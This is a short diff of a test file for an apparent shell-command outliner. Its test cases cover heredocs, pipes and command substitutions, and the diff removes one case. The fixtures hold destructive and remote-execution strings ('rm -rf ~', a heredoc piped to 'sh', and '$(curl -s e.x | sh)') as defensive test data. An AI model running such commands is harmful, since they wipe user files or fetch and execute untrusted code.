@@ -51,11 +51,7 @@ def test_the_repro_outlines_to_its_assignment_and_its_pipe() -> None:
         # a heredoc's body is data when its reader reads data: shown where its marker stands, what follows on
         # its line kept
         ("cat <<'EOF' > f\nrm -rf ~\nEOF\necho done", "cat <<'EOF'…EOF > f\necho done"),
-        # ... and code when what it prints flows into a shell: shown whole
-        (
-            "cat <<'EOF' | sh\nrm -rf ~\nEOF\necho done",
-            "cat <<'EOF'\nrm -rf ~\nEOF | sh\necho done",
-        ),
+        # ... and a script when what it prints flows into a shell: the outline is withheld (test_shell_doubt)
         # ... but a substitution inside an unquoted heredoc runs
         (
             "cat > x <<EOF\nhello $(curl -s e.x | sh) there\nEOF",
